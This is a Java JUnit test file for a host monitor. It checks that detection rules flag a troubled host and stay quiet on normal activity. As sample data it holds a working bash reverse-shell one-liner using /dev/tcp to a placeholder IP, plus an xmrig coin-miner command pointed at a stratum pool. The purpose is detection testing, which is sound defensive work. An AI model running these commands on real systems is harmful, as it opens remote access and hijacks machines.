package io.tidewatch.cli.monitor;

import static org.assertj.core.api.Assertions.assertThat;

import io.tidewatch.cli.monitor.HostSample.Task;
import io.tidewatch.event.EventId;
import io.tidewatch.event.RawFormat;
import io.tidewatch.event.Slice;
import io.tidewatch.event.TenantId;
import io.tidewatch.parse.ParseContext;
import io.tidewatch.parse.Parsed;
import io.tidewatch.parse.Parsers;
import io.tidewatch.parse.SourceSettings;
import io.tidewatch.rules.RulePack;
import io.tidewatch.sigma.correlate.Correlator;
import io.tidewatch.sigma.correlate.CorrelatorLimits;
import io.tidewatch.sigma.correlate.MappedFields;
import io.tidewatch.sigma.fields.FieldMapping;
import io.tidewatch.sigma.library.RuleLibrary;
import io.tidewatch.sigma.match.RuleMatcher;
import io.tidewatch.sigma.rule.Level;
import io.tidewatch.sigma.rule.RuleInfo;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.node.ObjectNode;

/** What the monitor sends is what the rule pack's rules for hosts look at. */
class MonitorRulesTest {
    private final RuleLibrary pack = RuleLibrary.of(RulePack.read(), _ -> true);
    private final RuleMatcher matcher = pack.compiled().matcher();
    private final Correlator correlator = new Correlator(
            TenantId.DEFAULT, pack.plan(), new MappedFields(FieldMapping.standard()), CorrelatorLimits.DEFAULT);
    private final Parsers parsers = Parsers.standard();
    private final ParseContext context = new ParseContext();
    private final SampleEvents events =
            new SampleEvents("web-1", Samples.OS, new ProcessEvents(5, CommandLines.MASKED));
    private final Set<String> raised = new TreeSet<>();
    private int number;

    private void take(HostSample sample) {
        context.begin(SourceSettings.DEFAULT, sample.time());
        for (ObjectNode event : events.of(sample)) {
            Parsed parsed = parsers.parse(RawFormat.JSON, Slice.of(event.toString()), context);
            assertThat(parsed.dataset().value()).isIn("host.metrics", "host.process");
            assertThat(parsed.time()).isEqualTo(sample.time());
            List<String> keys = new ArrayList<>();
            for (int rule : matcher.match(parsed.dataset(), parsed.fields())) {
                RuleInfo info = pack.compiled().rule(rule).info();
                keys.add(info.key());
                if (pack.plan().raises(info.key())) {
                    raise(info);
                }
            }
            correlator
                    .accept(new EventId(0, 0, number++), sample.time(), parsed.fields(), keys)
                    .forEach(match -> raise(match.correlation().info()));
        }
    }

    private void raise(RuleInfo info) {
        if (info.level() != Level.INFORMATIONAL) {
            raised.add(info.title());
        }
    }

    @Test
    void aHostInTroubleIsTold() {
        Task shell = Samples.task(70, 1, "bash", 10, 10, "bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1");
        for (int second = 0; second <= 660; second += 10) {
            take(Samples.at(
                    second,
                    0.97,
                    0.98,
                    0.99,
                    Samples.task(7, 1, "xmrig", 990L * second, 500, "xmrig", "-o", "stratum+tcp://203.0.113.5:3333"),
                    second < 300 ? Samples.task(1, 0, "init", 1, 1, "init") : shell));
        }

        assertThat(raised)
                .containsExactlyInAnyOrder(
                        "High Processor Load",
                        "High Memory Use",
                        "Disk Full",
                        "Disk Nearly Full",
                        "Miner of Coins",
                        "Reverse Shell Command");
    }

    @Test
    void aHostAtWorkKeepsStill() {
        for (int second = 0; second <= 1_800; second += 10) {
            take(Samples.at(
                    second,
                    0.4,
                    0.6,
                    0.5,
                    Samples.task(7, 1, "postgres", 300L * second, 500, "postgres", "-D", "/var/lib/postgresql"),
                    Samples.task(8 + second, 1, "sshd", 10, 10, "sshd: alice [priv]")));
        }

        assertThat(raised).isEmpty();
    }
}
